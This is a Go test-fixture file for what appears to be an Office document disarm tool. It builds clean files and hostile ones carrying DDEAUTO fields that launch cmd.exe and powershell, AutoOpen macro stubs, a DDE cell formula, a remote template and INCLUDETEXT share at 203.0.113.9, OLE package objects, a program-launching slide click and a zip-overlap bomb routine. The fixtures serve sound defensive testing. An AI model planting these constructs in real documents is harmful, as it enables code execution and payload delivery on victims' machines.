package office

import (
	"archive/zip"
	"bytes"
	"image"
	"image/color"
	"image/png"
	"strings"
	"testing"
)

// Fixtures are built here from minimal parts, as Word, Excel and
// PowerPoint write them (ECMA-376 Part 1 §11–13 examples).

type entry struct{ name, body string }

func buildZip(t testing.TB, entries ...entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, e := range entries {
		w, err := zw.Create(e.name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := w.Write([]byte(e.body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

const xmlDecl = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>` + "\r\n"

const (
	relDoc      = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
	relCore     = "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
	relApp      = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/extended-properties"
	relStyles   = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles"
	relSettings = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings"
	relImage    = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
	relHyper    = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
	relVBA      = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
	relWVBAData = "http://schemas.microsoft.com/office/2006/relationships/wordVbaData"
	relTemplate = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
	relOLE      = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"
	relUI2006   = "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"
	relUI2007   = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
	relCustXML  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/customXml"
	relSheet    = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
	relSST      = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
	relExtLink  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink"
	relPrinter  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/printerSettings"
	relSlide    = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/slide"
	relLayout   = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/slideLayout"
	relMaster   = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/slideMaster"
	relTheme    = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/theme"
)

type relSpec struct{ id, typ, target, mode string }

func relsXML(rs ...relSpec) string {
	var b strings.Builder
	b.WriteString(xmlDecl + `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`)
	for _, r := range rs {
		b.WriteString(`<Relationship Id="` + r.id + `" Type="` + r.typ + `" Target="` + r.target + `"`)
		if r.mode != "" {
			b.WriteString(` TargetMode="` + r.mode + `"`)
		}
		b.WriteString(`/>`)
	}
	b.WriteString(`</Relationships>`)
	return b.String()
}

func typesXML(defaults map[string]string, overrides ...[2]string) string {
	var b strings.Builder
	b.WriteString(xmlDecl + `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">`)
	b.WriteString(`<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>`)
	for ext, ct := range defaults {
		b.WriteString(`<Default Extension="` + ext + `" ContentType="` + ct + `"/>`)
	}
	for _, o := range overrides {
		b.WriteString(`<Override PartName="` + o[0] + `" ContentType="` + o[1] + `"/>`)
	}
	b.WriteString(`</Types>`)
	return b.String()
}

const wNS = `xmlns:wpc="http://schemas.microsoft.com/office/word/2010/wordprocessingCanvas" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture" mc:Ignorable="w14"`

const (
	ctWordMain  = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
	ctWordMacro = "application/vnd.ms-word.document.macroEnabled.main+xml"
	ctStyles    = "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"
	ctSettings  = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
	ctCore      = "application/vnd.openxmlformats-package.core-properties+xml"
	ctApp       = "application/vnd.openxmlformats-officedocument.extended-properties+xml"
)

// Japanese paragraphs of the clean documents.
var jaParagraphs = []string{
	"お世話になっております。",
	"令和7年度 予算書",
	"総務課の山田です。添付の資料をご確認ください。",
	"金額:1,234,567円(税込)",
}

func para(text string) string {
	return `<w:p><w:pPr><w:pStyle w:val="Normal"/></w:pPr><w:r><w:rPr><w:rFonts w:hint="eastAsia"/></w:rPr><w:t xml:space="preserve">` + text + `</w:t></w:r></w:p>`
}

func docXML(body string) string {
	return xmlDecl + `<w:document ` + wNS + `><w:body>` + body +
		`<w:sectPr><w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1985" w:right="1701" w:bottom="1701" w:left="1701" w:header="851" w:footer="992" w:gutter="0"/></w:sectPr></w:body></w:document>`
}

const stylesXML = xmlDecl + `<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:eastAsiaTheme="minorEastAsia"/><w:lang w:val="en-US" w:eastAsia="ja-JP"/></w:rPr></w:rPrDefault></w:docDefaults><w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>`

const coreXML = xmlDecl + `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"><dc:title>予算書</dc:title><dc:creator>総務課</dc:creator><dcterms:created xsi:type="dcterms:W3CDTF">2025-04-01T00:00:00Z</dcterms:created></cp:coreProperties>`

const appXML = xmlDecl + `<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>Microsoft Office Word</Application></Properties>`

func tinyPNG(t testing.TB) string {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 4, 4))
	for i := range 16 {
		img.Set(i%4, i/4, color.RGBA{R: uint8(i * 16), G: 0x80, B: 0x40, A: 0xFF})
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	// Something hidden after IEND, which re-encoding must not carry over.
	b.WriteString("HIDDEN-PAYLOAD")
	return b.String()
}

// docxWith builds a Word document with extra body XML, extra document
// relationships, extra parts and overrides.
func docxWith(t testing.TB, mainCT, body string, docRels []relSpec, extra []entry, overrides ...[2]string) []byte {
	t.Helper()
	ov := append([][2]string{
		{"/word/document.xml", mainCT},
		{"/word/styles.xml", ctStyles},
		{"/docProps/core.xml", ctCore},
		{"/docProps/app.xml", ctApp},
	}, overrides...)
	rels := append([]relSpec{{"rIdStyles", relStyles, "styles.xml", ""}}, docRels...)
	es := []entry{
		{"[Content_Types].xml", typesXML(map[string]string{"png": "image/png", "bin": "application/vnd.ms-office.vbaProject"}, ov...)},
		{"_rels/.rels", relsXML(relSpec{"rId1", relDoc, "word/document.xml", ""}, relSpec{"rId2", relCore, "docProps/core.xml", ""}, relSpec{"rId3", relApp, "docProps/app.xml", ""})},
		{"word/document.xml", docXML(body)},
		{"word/_rels/document.xml.rels", relsXML(rels...)},
		{"word/styles.xml", stylesXML},
		{"docProps/core.xml", coreXML},
		{"docProps/app.xml", appXML},
	}
	return buildZip(t, append(es, extra...)...)
}

func cleanDOCX(t testing.TB) []byte {
	t.Helper()
	var body strings.Builder
	for _, p := range jaParagraphs {
		body.WriteString(para(p))
	}
	// a picture, referenced through r:embed
	body.WriteString(`<w:p><w:r><w:drawing><wp:inline><wp:extent cx="381000" cy="381000"/><wp:docPr id="1" name="図 1"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="image1.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rIdImg"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="381000" cy="381000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`)
	// a safe PAGE field stays a field
	body.WriteString(`<w:p><w:r><w:t xml:space="preserve">ページ </w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`)
	return docxWith(t, ctWordMain, body.String(), []relSpec{{"rIdImg", relImage, "media/image1.png", ""}},
		[]entry{{"word/media/image1.png", tinyPNG(t)}})
}

// hostileDOCM carries every Word attack the disarm removes.
func hostileDOCM(t testing.TB) []byte {
	t.Helper()
	body := para("お世話になっております。") +
		// DDEAUTO complex field: the code goes, the shown result stays.
		`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>表示される結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
		// The same hidden behind a nested QUOTE field that spells DDE.
		`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDEAUTO</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText xml:space="preserve"> c:\\Windows\\System32\\cmd.exe "/c powershell" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
		// A simple field with INCLUDETEXT from a remote share.
		`<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\203.0.113.9\\share\\x.docx&quot; "><w:r><w:t>引用文</w:t></w:r></w:fldSimple></w:p>` +
		// An external hyperlink: the link goes, its text stays.
		`<w:p><w:hyperlink r:id="rIdLink" w:history="1"><w:r><w:t>詳しくはこちら</w:t></w:r></w:hyperlink></w:p>` +
		// An OLE object.
		`<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:72pt;height:72pt" o:ole=""><v:imagedata r:id="rIdImg" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1" r:id="rIdOle"/></w:object></w:r></w:p>` +
		para("令和7年度 予算書")
	rels := []relSpec{
		{"rIdVBA", relVBA, "vbaProject.bin", ""},
		{"rIdSettings", relSettings, "settings.xml", ""},
		{"rIdLink", relHyper, "http://203.0.113.9/phish", "External"},
		{"rIdOle", relOLE, "embeddings/oleObject1.bin", ""},
		{"rIdImg", relImage, "media/image1.png", ""},
		{"rIdCX", relCustXML, "../customXml/item1.xml", ""},
	}
	settings := xmlDecl + `<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rIdTpl"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/><w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\203.0.113.9\x.accdb"/></w:mailMerge><w:defaultTabStop w:val="840"/></w:settings>`
	extra := []entry{
		{"word/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Attribute VB_Name = \"ThisDocument\" Sub AutoOpen() Shell \"calc\" End Sub"},
		{"word/_rels/vbaProject.bin.rels", relsXML(relSpec{"rId1", relWVBAData, "vbaData.xml", ""})},
		{"word/vbaData.xml", xmlDecl + `<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>`},
		{"word/settings.xml", settings},
		{"word/_rels/settings.xml.rels", relsXML(relSpec{"rIdTpl", relTemplate, "http://203.0.113.9/template.dotm", "External"})},
		{"word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Ole10Native payload.exe"},
		{"word/media/image1.png", tinyPNG(t)},
		{"customUI/customUI.xml", xmlDecl + `<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="AutoOpen"/>`},
		{"customUI/customUI14.xml", xmlDecl + `<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="AutoOpen"/>`},
		{"customXml/item1.xml", xmlDecl + `<root>payload</root>`},
	}
	b := docxWith(t, ctWordMacro, body, rels, extra,
		[2]string{"/word/settings.xml", ctSettings},
		[2]string{"/word/vbaData.xml", "application/vnd.ms-word.vbaData+xml"},
		[2]string{"/customUI/customUI.xml", "application/xml"},
		[2]string{"/customUI/customUI14.xml", "application/xml"},
	)
	// add the customUI relationships to the package root
	return patchZip(t, b, "_rels/.rels", relsXML(
		relSpec{"rId1", relDoc, "word/document.xml", ""},
		relSpec{"rId2", relCore, "docProps/core.xml", ""},
		relSpec{"rId3", relApp, "docProps/app.xml", ""},
		relSpec{"rId4", relUI2006, "customUI/customUI.xml", ""},
		relSpec{"rId5", relUI2007, "customUI/customUI14.xml", ""},
	))
}

// patchZip replaces one entry's content.
func patchZip(t testing.TB, in []byte, name, body string) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(in), int64(len(in)))
	if err != nil {
		t.Fatal(err)
	}
	var es []entry
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		var b bytes.Buffer
		b.ReadFrom(rc)
		rc.Close()
		s := b.String()
		if f.Name == name {
			s = body
		}
		es = append(es, entry{f.Name, s})
	}
	return buildZip(t, es...)
}

const (
	ctWorkbook      = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
	ctWorkbookMacro = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
	ctWorksheet     = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
	ctSST           = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
	ctExtLink       = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
)

var jaCells = []string{"令和7年度 予算書", "款", "項", "金額(千円)", "総務費", "民生費", "お世話になっております。"}

func xlsxWith(t testing.TB, mainCT, sheetExtra, wbExtra string, wbRels []relSpec, extra []entry, overrides ...[2]string) []byte {
	t.Helper()
	var sst strings.Builder
	sst.WriteString(xmlDecl + `<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="7" uniqueCount="7">`)
	for _, s := range jaCells {
		sst.WriteString(`<si><t>` + s + `</t></si>`)
	}
	sst.WriteString(`</sst>`)
	sheet := xmlDecl + `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:x14ac="http://schemas.microsoft.com/office/spreadsheetml/2009/9/ac" mc:Ignorable="x14ac"><dimension ref="A1:C4"/><sheetData>` +
		`<row r="1"><c r="A1" t="s"><v>0</v></c></row>` +
		`<row r="2"><c r="A2" t="s"><v>1</v></c><c r="B2" t="s"><v>2</v></c><c r="C2" t="s"><v>3</v></c></row>` +
		`<row r="3"><c r="A3" t="s"><v>4</v></c><c r="C3"><v>1234567</v></c></row>` +
		`<row r="4"><c r="A4" t="s"><v>5</v></c><c r="C4"><v>89012.5</v></c></row>` +
		`<row r="5"><c r="A5" t="s"><v>6</v></c><c r="C5"><f>SUM(C3:C4)</f><v>1323579.5</v></c></row>` +
		sheetExtra + `</sheetData><pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" footer="0.3"/></worksheet>`
	wb := xmlDecl + `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="予算" sheetId="1" r:id="rId1"/></sheets>` + wbExtra + `</workbook>`
	ov := append([][2]string{
		{"/xl/workbook.xml", mainCT},
		{"/xl/worksheets/sheet1.xml", ctWorksheet},
		{"/xl/sharedStrings.xml", ctSST},
		{"/docProps/core.xml", ctCore},
	}, overrides...)
	rels := append([]relSpec{{"rId1", relSheet, "worksheets/sheet1.xml", ""}, {"rId2", relSST, "sharedStrings.xml", ""}}, wbRels...)
	es := []entry{
		{"[Content_Types].xml", typesXML(map[string]string{"bin": "application/vnd.ms-office.vbaProject"}, ov...)},
		{"_rels/.rels", relsXML(relSpec{"rId1", relDoc, "xl/workbook.xml", ""}, relSpec{"rId2", relCore, "docProps/core.xml", ""})},
		{"xl/workbook.xml", wb},
		{"xl/_rels/workbook.xml.rels", relsXML(rels...)},
		{"xl/worksheets/sheet1.xml", sheet},
		{"xl/sharedStrings.xml", sst.String()},
		{"docProps/core.xml", coreXML},
	}
	return buildZip(t, append(es, extra...)...)
}

func cleanXLSX(t testing.TB) []byte {
	t.Helper()
	return xlsxWith(t, ctWorkbook, "", "", nil, nil)
}

// hostileXLSM has a macro project, a DDE external link, a DDE cell
// formula, an Auto_Open name and printer settings.
func hostileXLSM(t testing.TB) []byte {
	t.Helper()
	dde := `<row r="6"><c r="A6"><f>cmd|' /C calc'!A0</f><v>0</v></c></row>`
	wbExtra := `<externalReferences><externalReference r:id="rId4"/></externalReferences><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName><definedName name="予算合計">予算!$C$5</definedName></definedNames>`
	ext := xmlDecl + `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic=" /C calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`
	return xlsxWith(t, ctWorkbookMacro, dde, wbExtra,
		[]relSpec{{"rId3", relVBA, "vbaProject.bin", ""}, {"rId4", relExtLink, "externalLinks/externalLink1.xml", ""}},
		[]entry{
			{"xl/vbaProject.bin", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub Auto_Open() Shell \"calc\" End Sub"},
			{"xl/externalLinks/externalLink1.xml", ext},
			{"xl/printerSettings/printerSettings1.bin", "DEVMODE"},
		},
		[2]string{"/xl/externalLinks/externalLink1.xml", ctExtLink},
	)
}

const (
	ctPres       = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
	ctPresMacro  = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
	ctSlide      = "application/vnd.openxmlformats-officedocument.presentationml.slide+xml"
	ctSlideLay   = "application/vnd.openxmlformats-officedocument.presentationml.slideLayout+xml"
	ctSlideMast  = "application/vnd.openxmlformats-officedocument.presentationml.slideMaster+xml"
	ctTheme      = "application/vnd.openxmlformats-officedocument.theme+xml"
	pNS          = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"`
	themeXMLBody = `<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Office"><a:themeElements><a:clrScheme name="Office"><a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1><a:lt1><a:sysClr val="window" lastClr="FFFFFF"/></a:lt1><a:dk2><a:srgbClr val="44546A"/></a:dk2><a:lt2><a:srgbClr val="E7E6E6"/></a:lt2><a:accent1><a:srgbClr val="4472C4"/></a:accent1><a:accent2><a:srgbClr val="ED7D31"/></a:accent2><a:accent3><a:srgbClr val="A5A5A5"/></a:accent3><a:accent4><a:srgbClr val="FFC000"/></a:accent4><a:accent5><a:srgbClr val="5B9BD5"/></a:accent5><a:accent6><a:srgbClr val="70AD47"/></a:accent6><a:hlink><a:srgbClr val="0563C1"/></a:hlink><a:folHlink><a:srgbClr val="954F72"/></a:folHlink></a:clrScheme><a:fontScheme name="Office"><a:majorFont><a:latin typeface="Calibri Light"/><a:ea typeface=""/><a:cs typeface=""/></a:majorFont><a:minorFont><a:latin typeface="Calibri"/><a:ea typeface=""/><a:cs typeface=""/></a:minorFont></a:fontScheme><a:fmtScheme name="Office"><a:fillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:fillStyleLst><a:lnStyleLst><a:ln w="6350"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="12700"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln><a:ln w="19050"><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:ln></a:lnStyleLst><a:effectStyleLst><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle><a:effectStyle><a:effectLst/></a:effectStyle></a:effectStyleLst><a:bgFillStyleLst><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill><a:solidFill><a:schemeClr val="phClr"/></a:solidFill></a:bgFillStyleLst></a:fmtScheme></a:themeElements></a:theme>`
)

func spTree(inner string) string {
	return `<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>` + inner + `</p:spTree></p:cSld>`
}

func textShape(id, text, click string) string {
	return `<p:sp><p:nvSpPr><p:cNvPr id="` + id + `" name="Text ` + id + `">` + click + `</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="457200" y="457200"/><a:ext cx="8229600" cy="1143000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr/><a:lstStyle/><a:p><a:r><a:rPr lang="ja-JP"/><a:t>` + text + `</a:t></a:r></a:p></p:txBody></p:sp>`
}

// hostilePPTM has a slide with text, a program-launching click action,
// an embedded OLE object and a macro project.
func hostilePPTM(t testing.TB) []byte {
	t.Helper()
	ole := `<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="Object 3"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj spid="_x0000_s1026" name="Packager Shell Object" r:id="rIdOle" imgW="1" imgH="1" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame>`
	slide := xmlDecl + `<p:sld ` + pNS + `>` + spTree(
		textShape("2", "令和7年度 予算書", `<a:hlinkClick r:id="" action="ppaction://program"/>`)+
			textShape("3", "お世話になっております。", "")+ole) + `</p:sld>`
	layout := xmlDecl + `<p:sldLayout ` + pNS + `>` + spTree("") + `</p:sldLayout>`
	master := xmlDecl + `<p:sldMaster ` + pNS + `>` + spTree("") + `<p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rId1"/></p:sldLayoutIdLst></p:sldMaster>`
	pres := xmlDecl + `<p:presentation ` + pNS + `><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rIdM"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rIdS"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`
	return buildZip(t,
		entry{"[Content_Types].xml", typesXML(map[string]string{"bin": "application/vnd.openxmlformats-officedocument.oleObject"},
			[2]string{"/ppt/presentation.xml", ctPresMacro}, [2]string{"/ppt/slides/slide1.xml", ctSlide},
			[2]string{"/ppt/slideLayouts/slideLayout1.xml", ctSlideLay}, [2]string{"/ppt/slideMasters/slideMaster1.xml", ctSlideMast},
			[2]string{"/ppt/theme/theme1.xml", ctTheme}, [2]string{"/ppt/vbaProject.bin", "application/vnd.ms-office.vbaProject"})},
		entry{"_rels/.rels", relsXML(relSpec{"rId1", relDoc, "ppt/presentation.xml", ""})},
		entry{"ppt/presentation.xml", pres},
		entry{"ppt/_rels/presentation.xml.rels", relsXML(relSpec{"rIdM", relMaster, "slideMasters/slideMaster1.xml", ""}, relSpec{"rIdS", relSlide, "slides/slide1.xml", ""}, relSpec{"rIdV", relVBA, "vbaProject.bin", ""}, relSpec{"rIdT", relTheme, "theme/theme1.xml", ""})},
		entry{"ppt/slides/slide1.xml", slide},
		entry{"ppt/slides/_rels/slide1.xml.rels", relsXML(relSpec{"rId1", relLayout, "../slideLayouts/slideLayout1.xml", ""}, relSpec{"rIdOle", relOLE, "../embeddings/oleObject1.bin", ""})},
		entry{"ppt/slideLayouts/slideLayout1.xml", layout},
		entry{"ppt/slideLayouts/_rels/slideLayout1.xml.rels", relsXML(relSpec{"rId1", relMaster, "../slideMasters/slideMaster1.xml", ""})},
		entry{"ppt/slideMasters/slideMaster1.xml", master},
		entry{"ppt/slideMasters/_rels/slideMaster1.xml.rels", relsXML(relSpec{"rId1", relLayout, "../slideLayouts/slideLayout1.xml", ""}, relSpec{"rId2", relTheme, "../theme/theme1.xml", ""})},
		entry{"ppt/theme/theme1.xml", xmlDecl + themeXMLBody},
		entry{"ppt/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0 payload"},
		entry{"ppt/vbaProject.bin", "\xd0\xcf\x11\xe0 vba"},
	)
}

// overlapping rewrites the central directory so that docProps/app.xml
// points at the local header of word/document.xml: two names over one
// compressed stream, the overlap construction of non-recursive zip bombs.
func overlapping(t testing.TB, in []byte) []byte {
	t.Helper()
	b := bytes.Clone(in)
	offsets := map[string]int{} // name → index of its central record
	for i := 0; i+46 <= len(b); i++ {
		if string(b[i:i+4]) != "PK\x01\x02" {
			continue
		}
		n := int(b[i+28]) | int(b[i+29])<<8
		if i+46+n > len(b) {
			continue
		}
		offsets[string(b[i+46:i+46+n])] = i
	}
	src, dst := offsets["word/document.xml"], offsets["docProps/app.xml"]
	if src == 0 || dst == 0 {
		t.Fatal("overlapping: entries not found")
	}
	copy(b[dst+42:dst+46], b[src+42:src+46])
	return b
}
